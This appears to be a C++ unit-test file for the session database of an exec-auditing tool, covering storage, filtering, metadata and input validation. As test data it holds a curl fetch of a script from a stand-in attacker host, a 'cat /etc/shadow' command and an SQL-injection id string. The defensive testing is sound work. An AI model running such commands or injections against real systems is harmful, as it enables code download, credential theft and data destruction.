// The database round trip: the writer thread stores, the read side finds, filters and decodes.
#include "common/errors.h"
#include "storage/io_frames.h"
#include "storage/schema.h"
#include "storage/session_store.h"
#include "storage/recorder_restart.h"
#include "storage/store_writer.h"
#include "tests/support/environment.h"
#include "tests/support/stored_sessions.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <fstream>

using namespace execaudit;
using namespace execaudit::storage;

namespace {

using execaudit::testing::kSecondNs;
using execaudit::testing::kT0Ns;  // 2024-10-29T12:21:44.189258Z
using execaudit::testing::write_ops;

SessionRecord session(const std::string& id, int64_t start, const std::string& ns, const std::string& pod,
                      std::vector<std::string> command) {
    SessionRecord r = execaudit::testing::sample_session(id, start, std::move(command));
    r.namespace_name = ns;
    r.pod = pod;
    return r;
}

class StoreTest : public ::testing::Test {
protected:
    execaudit::testing::TempDir dir_;
    std::string path_ = dir_.file("sessions.db");
};

TEST_F(StoreTest, RoundTrip) {
    auto a = session("aaaa000000000001", kT0Ns, "shop", "web", {"/bin/bash"});
    a.status = "ended";
    a.end_ns = kT0Ns + 5 * kSecondNs;
    a.exit_code = 3;
    a.output_bytes = 11;
    CommandRecord c;
    c.session_id = a.id;
    c.seq = 0;
    c.time_ns = kT0Ns;
    c.argv = {"cat", std::string("\xff\xfe", 2), ""};  // raw bytes, an empty argument
    c.filename = "/bin/cat";
    c.retval = -2;
    CommandRecord lost_result = c;
    lost_result.seq = 1;
    lost_result.retval.reset();
    ChunkEncoder enc;
    enc.add_bytes(0, FrameKind::output, "hello world");
    ChunkRecord chunk;
    chunk.session_id = a.id;
    chunk.frames = enc.frames();
    chunk.output_bytes = enc.output_bytes();
    chunk.frames_data = enc.take();
    write_ops(path_, {WriteSession{a}, WriteCommand{c}, WriteCommand{lost_result}, WriteChunk{chunk}});

    auto db = Database::open(path_, Database::Mode::read_only);
    SessionStore store(db);
    auto found = store.find("aaaa");
    ASSERT_TRUE(found) << found.error();
    EXPECT_EQ(found->status, "ended");
    EXPECT_EQ(found->exit_code, 3);
    EXPECT_EQ(found->end_ns, kT0Ns + 5 * kSecondNs);
    EXPECT_EQ(found->command, std::vector<std::string>{"/bin/bash"});
    auto cmds = store.commands(a.id);
    ASSERT_EQ(cmds.size(), 2u);
    EXPECT_EQ(cmds[0].argv, (std::vector<std::string>{"cat", std::string("\xff\xfe", 2), ""}));
    EXPECT_EQ(cmds[0].retval, -2);
    EXPECT_FALSE(cmds[1].retval);
    std::string replayed;
    ASSERT_TRUE(store.for_each_chunk(a.id, [&](const ChunkRecord& r) {
        ASSERT_TRUE(decode_chunk(r.frames_data, r.first_offset_us, [&](const Frame& f) { replayed += f.data; }));
    }));
    EXPECT_EQ(replayed, "hello world");
}

TEST_F(StoreTest, UpdatesKeepOneRowAndNeverTouchAttribution) {
    auto a = session("bbbb000000000001", kT0Ns, "shop", "web", {"sh"});
    write_ops(path_, {WriteSession{a}});
    {
        auto db = Database::open(path_, Database::Mode::read_write);
        db.exec("UPDATE sessions SET attribution = 'audit', user = 'alice'");
    }
    a.output_bytes = 99;
    a.status = "ended";
    write_ops(path_, {WriteSession{a}});
    auto db = Database::open(path_, Database::Mode::read_only);
    SessionStore store(db);
    auto all = store.list({});
    ASSERT_EQ(all.size(), 1u);
    EXPECT_EQ(all[0].output_bytes, 99u);
    EXPECT_EQ(all[0].attribution, "audit");
    EXPECT_EQ(all[0].user, "alice");
}

TEST_F(StoreTest, FiltersAndOrder) {
    auto old = session("cccc000000000001", kT0Ns, "shop", "web", {"/bin/bash"});
    old.end_ns = kT0Ns + kSecondNs;
    auto mid = session("cccc000000000002", kT0Ns + 100 * kSecondNs, "pay", "api", {"sh", "-c", "cat /etc/shadow"});
    mid.end_ns = kT0Ns + 200 * kSecondNs;
    auto open = session("cccc000000000003", kT0Ns + 300 * kSecondNs, "shop", "db", {"psql"});
    CommandRecord c;
    c.session_id = old.id;
    c.argv = {"curl", "http://evil.example/x.sh"};
    c.retval = 0;
    write_ops(path_, {WriteSession{old}, WriteSession{mid}, WriteSession{open}, WriteCommand{c}});
    Database::open(path_, Database::Mode::read_write)
        .exec("UPDATE sessions SET attribution = 'unattributed' WHERE id = 'cccc000000000003'");
    auto db = Database::open(path_, Database::Mode::read_only);
    SessionStore store(db);
    auto ids = [&](const SessionFilter& f) {
        std::vector<std::string> out;
        for (const auto& s : store.list(f)) out.push_back(s.id.substr(12));
        return out;
    };
    EXPECT_EQ(ids({}), (std::vector<std::string>{"0003", "0002", "0001"}));  // newest first
    EXPECT_EQ(ids({.namespace_name = "shop"}), (std::vector<std::string>{"0003", "0001"}));
    EXPECT_EQ(ids({.pod = "api"}), std::vector<std::string>{"0002"});
    EXPECT_EQ(ids({.command = "evil.example"}), std::vector<std::string>{"0001"});  // any command, not just the first
    EXPECT_EQ(ids({.command = "/etc/shadow"}), std::vector<std::string>{"0002"});
    EXPECT_EQ(ids({.command = "%"}), std::vector<std::string>{});  // LIKE wildcards are literal
    EXPECT_EQ(ids({.unattributed_only = true}), std::vector<std::string>{"0003"});
    // since: still running at or after; until: started before
    EXPECT_EQ(ids({.since_ns = kT0Ns + 150 * kSecondNs}), (std::vector<std::string>{"0003", "0002"}));
    EXPECT_EQ(ids({.until_ns = kT0Ns + 100 * kSecondNs}), std::vector<std::string>{"0001"});
    EXPECT_EQ(ids({.limit = 1}), std::vector<std::string>{"0003"});
}

// Which workload (issue 17): stored as the pod was at the session's start, kept when a later
// write does not know it (a restarted recorder before its pod list), filtered by label and workload.
TEST_F(StoreTest, PodMetadataIsKeptAndFiltered) {
    auto web = session("dddd000000000001", kT0Ns, "shop", "web-5d8f7c9b6-x2k4q", {"sh"});
    PodMetadata m{.labels_json = R"({"app":"web","tier":"front"})", .labels_dropped = 1, .owner_kind = "ReplicaSet",
                  .owner_name = "web-5d8f7c9b6", .workload_kind = "Deployment", .workload_name = "web",
                  .service_account = "web-sa"};
    web.pod_meta = m;
    web.cluster = "prod";
    auto db_pod = session("dddd000000000002", kT0Ns + kSecondNs, "shop", "db-0", {"psql"});
    db_pod.pod_meta = PodMetadata{.labels_json = R"({"app":"db"})", .owner_kind = "StatefulSet", .owner_name = "db",
                                  .workload_kind = "StatefulSet", .workload_name = "db"};
    auto unknown = session("dddd000000000003", kT0Ns + 2 * kSecondNs, "shop", "x", {"sh"});
    write_ops(path_, {WriteSession{web}, WriteSession{db_pod}, WriteSession{unknown}});
    auto later = web;  // written again by a recorder that does not know the pod (yet)
    later.pod_meta.reset();
    later.cluster.reset();
    later.status = "ended";
    write_ops(path_, {WriteSession{later}});

    auto db = Database::open(path_, Database::Mode::read_only);
    SessionStore store(db);
    auto found = store.find(web.id);
    ASSERT_TRUE(found);
    ASSERT_TRUE(found->pod_meta);
    EXPECT_EQ(*found->pod_meta, m);
    EXPECT_EQ(found->cluster, "prod");
    EXPECT_EQ(found->status, "ended");
    auto none = store.find(unknown.id);
    ASSERT_TRUE(none);
    EXPECT_FALSE(none->pod_meta);  // not known is not "no labels"
    EXPECT_FALSE(none->cluster);
    auto ids = [&](const SessionFilter& f) {
        std::vector<std::string> out;
        for (const auto& s : store.list(f)) out.push_back(s.id.substr(12));
        return out;
    };
    EXPECT_EQ(ids({.label = std::pair("app", "web")}), std::vector<std::string>{"0001"});
    EXPECT_EQ(ids({.label = std::pair("tier", "front")}), std::vector<std::string>{"0001"});
    EXPECT_EQ(ids({.label = std::pair("app", "we")}), std::vector<std::string>{});  // exact value
    EXPECT_EQ(ids({.workload_name = "db"}), std::vector<std::string>{"0002"});
    EXPECT_EQ(ids({.workload_name = "web", .workload_kind = "Deployment"}), std::vector<std::string>{"0001"});
    EXPECT_EQ(ids({.workload_name = "web", .workload_kind = "StatefulSet"}), std::vector<std::string>{});
    auto plan = db.prepare("EXPLAIN QUERY PLAN SELECT id FROM sessions WHERE workload_name = 'web'");
    std::string steps;
    while (plan.step()) steps += plan.column_text(3) + "\n";
    EXPECT_NE(steps.find("sessions_workload"), std::string::npos) << steps;
}

TEST_F(StoreTest, FindExplainsItself) {
    write_ops(path_, {WriteSession{session("dddd000000000001", kT0Ns, "a", "b", {"x"})},
           WriteSession{session("dddd000000000002", kT0Ns, "a", "b", {"x"})}});
    auto db = Database::open(path_, Database::Mode::read_only);
    SessionStore store(db);
    EXPECT_NE(store.find("dddd").error().find("ambiguous"), std::string::npos);
    EXPECT_NE(store.find("eeee").error().find("no session"), std::string::npos);
    EXPECT_NE(store.find("dd").error().find("too short"), std::string::npos);
    EXPECT_NE(store.find("dddd'; DROP TABLE sessions;--").error().find("not a session id"), std::string::npos);
    EXPECT_TRUE(store.find("DDDD000000000002"));  // case does not matter
}

TEST_F(StoreTest, AbandonedSessionsBecomeInterrupted) {
    auto a = session("ffff000000000001", kT0Ns, "a", "b", {"x"});
    a.last_activity_ns = kT0Ns + 7 * kSecondNs;
    write_ops(path_, {WriteSession{a}});
    auto db = Database::open(path_, Database::Mode::read_write);
    EXPECT_EQ(close_abandoned_sessions(db), 1);
    SessionStore store(db);
    auto s = store.find(a.id);
    ASSERT_TRUE(s);
    EXPECT_EQ(s->status, "interrupted");
    EXPECT_EQ(s->end_ns, kT0Ns + 7 * kSecondNs);
}

TEST_F(StoreTest, FileIsPrivateAndVersioned) {
    write_ops(path_, {});
    struct stat st {};
    ASSERT_EQ(stat(path_.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
    auto db = Database::open(path_, Database::Mode::read_only);
    EXPECT_EQ(schema_version(db), current_schema_version());
}

TEST_F(StoreTest, RefusesWhatIsNotOurs) {
    std::ofstream(path_) << "this is not a database";
    EXPECT_THROW(Database::open(path_, Database::Mode::read_only), UsageError);
    EXPECT_THROW(Database::open(dir_.file("missing.db"), Database::Mode::read_only), UsageError);
    // an SQLite file another program made is never migrated into ours
    std::string other = dir_.file("other.db");
    {
        sqlite3* raw = nullptr;
        sqlite3_open(other.c_str(), &raw);
        sqlite3_exec(raw, "CREATE TABLE mine (x)", nullptr, nullptr, nullptr);
        sqlite3_close(raw);
    }
    EXPECT_THROW(Database::open(other, Database::Mode::read_write), UsageError);
    // and a newer schema than this build knows is refused, not downgraded
    {
        auto db = Database::open(path_ + "2", Database::Mode::read_write);
        db.exec("PRAGMA user_version = 999");
    }
    EXPECT_THROW(Database::open(path_ + "2", Database::Mode::read_write), UsageError);
}

}  // namespace
